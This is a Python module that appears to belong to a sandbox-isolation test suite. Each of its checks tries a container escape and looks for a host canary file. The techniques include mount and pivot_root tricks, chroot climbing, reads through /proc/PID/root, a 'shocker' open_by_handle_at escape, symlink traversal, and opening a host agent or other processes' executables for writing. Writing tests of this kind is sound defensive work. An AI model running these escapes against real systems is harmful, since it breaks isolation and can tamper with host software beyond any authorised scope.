"""Mounts, roots, and ways up and out of a file system."""

from __future__ import annotations

import contextlib
import ctypes
import os
import struct

from .table import Denied, Owner, Place, attempt, call, canary_below, first, folder, mount, unmount

_BIND, _REMOUNT = 4096, 32


def _mounted(source: str, kind: str, flags: int = 0, data: str = "") -> str:
    with folder("mount") as path:
        done = mount(source, path, kind, flags, data)
        unmount(path)
        return done


@attempt("mounts", Owner.SELF, "mount a tmpfs", "the mount is there")
def mount_tmpfs(place: Place) -> str:
    return _mounted("x", "tmpfs")


@attempt("mounts", Owner.SELF, "mount a fresh proc", "the mount is there")
def mount_proc(place: Place) -> str:
    return _mounted("x", "proc")


@attempt("mounts", Owner.SELF, "mount a fresh sysfs", "the mount is there")
def mount_sysfs(place: Place) -> str:
    return _mounted("x", "sysfs")


@attempt("mounts", Owner.SELF, "mount an overlay", "the mount is there")
def mount_overlay(place: Place) -> str:
    return _mounted("x", "overlay", 0, "lowerdir=/etc:/usr")


@attempt("mounts", Owner.KERNEL, "mount 9p and virtiofs by tags that a host may use", "the mount is there")
def mount_9p(place: Place) -> str:
    tags = ["9p:volumes", "9p:host", "9p:kataShared", "9p:/dev/root", "virtiofs:volumes", "virtiofs:kataShared"]
    return first(tags, lambda word: _mounted(word.partition(":")[2], word.partition(":")[0], 0, "trans=virtio" if word[0] == "9" else ""))


@attempt("mounts", Owner.SELF, "bind one's own folder over /etc", "the mount is there")
def bind_over_etc(place: Place) -> str:
    done = mount("/tmp", "/etc", "", _BIND)
    unmount("/etc")
    return done


@attempt("mounts", Owner.SELF, "take the mounts over /etc/hosts away", "umount is taken")
def unmount_injected(place: Place) -> str:
    unmount("/etc/hosts")
    return "unmounted /etc/hosts"


@attempt("mounts", Owner.SELF, "use the newer calls: fsopen, open_tree, mount_setattr", "a descriptor")
def new_mount_calls(place: Place) -> str:
    tree = (428, -100, b"/etc", 1)
    return first(["fsopen", "open_tree"], lambda name: f"{name} gave {call(*((430, b'tmpfs', 0) if name == 'fsopen' else tree))}")


@attempt("mounts", Owner.SELF, "pivot_root", "the call is taken")
def pivot_root(place: Place) -> str:
    with folder("pivot") as path:
        mount("x", path, "tmpfs")
        os.mkdir(f"{path}/old")
        call(155, path.encode(), f"{path}/old".encode())
        return canary_below("/", place) if os.path.exists(place.canary_path) else "pivoted among its own mounts"


@attempt("mounts", Owner.HOST, "write to a folder that was given read-only, after a remount too", "a file of the host has changed")
def read_only_volume(place: Place) -> str:
    def write(_: str) -> str:
        with open(f"{place.read_only}/written", "w", encoding="ascii") as file:
            file.write("escaped")
        return "wrote"

    if not place.read_only:
        raise Denied("none was given")
    with contextlib.suppress(OSError):
        return write("")
    with contextlib.suppress(OSError):
        mount("none", place.read_only, "", _REMOUNT | _BIND)
    with contextlib.suppress(OSError):
        mount("none", place.read_only, "", _REMOUNT)
    return write("")


@attempt("ways out", Owner.HOST, "chroot below one's own root, then climb", "the host's canary")
def chroot_climb(place: Place) -> str:
    outside = os.open("/", os.O_RDONLY)
    with folder("chroot") as path:
        os.chroot(path)
        os.fchdir(outside)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        return canary_below("/", place)


@attempt("ways out", Owner.HOST, "climb from every descriptor that the program was started with", "the host's canary")
def inherited_descriptors(place: Place) -> str:
    folders = ["/proc/self/fd", "/proc/1/fd"]
    found = [f"{at}/{name}" for at in folders for name in sorted(os.listdir(at))]
    ups = ["", "/..", "/../../../../../../../.."]
    return first([path + up for path in found for up in ups], lambda path: canary_below(path, place))


@attempt("ways out", Owner.HOST, "read through /proc/PID/root and cwd of every process", "the host's canary")
def roots_of_processes(place: Place) -> str:
    numbers = [name for name in os.listdir("/proc") if name.isdigit()] + [str(place.pid)]
    paths = [f"/proc/{number}/{link}{up}" for number in numbers for link in ("root", "cwd") for up in ("", "/../../../../..")]
    return first(paths, lambda path: canary_below(path, place))


@attempt("ways out", Owner.HOST, "shocker: open the root of the file systems behind bound files by a handle", "the host's canary")
def open_by_handle(place: Place) -> str:
    def root_of(path: str) -> str:
        descriptor = os.open(path, os.O_RDONLY)
        # struct file_handle: bytes, type (1: inode and generation), inode 2 is the root of ext4
        handle = ctypes.create_string_buffer(struct.pack("=IiII", 8, 1, 2, 0))
        found = call(304, descriptor, handle, os.O_RDONLY)
        return canary_below(f"/proc/self/fd/{found}", place)

    return first(["/etc/hosts", "/etc/hostname", "/etc/resolv.conf", "/run/twinhull/agent", "/", place.read_only or "/"], root_of)


@attempt("ways out", Owner.HOST, "follow links to the canary: absolute, relative, magic", "the host's canary")
def links(place: Place) -> str:
    def follow(target: str) -> str:
        path = f"/tmp/escape-link-{os.getpid()}"
        os.symlink(target, path)
        try:
            with open(path, encoding="utf-8") as file:
                if file.read().strip() == place.canary:
                    return f"through {target}"
            raise Denied("another file of that name")
        finally:
            os.unlink(path)

    targets = [place.canary_path, "../" * 40 + place.canary_path, f"/proc/self/root{place.canary_path}", f"/proc/1/root{place.canary_path}"]
    return first(targets, follow)


@attempt("ways out", Owner.KERNEL, "overwrite the agent, and the programs that started this one", "open for writing is granted")
def running_programs(place: Place) -> str:
    def write(path: str) -> str:
        descriptor = os.open(path, os.O_WRONLY)
        os.close(descriptor)
        return f"opened {path} for writing"

    def remount_and_write(path: str) -> str:
        mount("none", path, "", _REMOUNT | _BIND)
        return write(path)

    running = [f"/proc/{name}/exe" for name in os.listdir("/proc") if name.isdigit()]
    foreign = [path for path in running if not _ours(path)]
    paths = ["/run/twinhull/agent", *foreign]
    try:
        return first(paths, write)
    except (OSError, Denied):
        return first(paths, remount_and_write)


def _ours(path: str) -> bool:
    """Whether a program is a file of this root, which root may change here."""
    with contextlib.suppress(OSError):
        target = os.readlink(path)
        return os.path.exists(target) and not os.path.ismount(target)
    return True
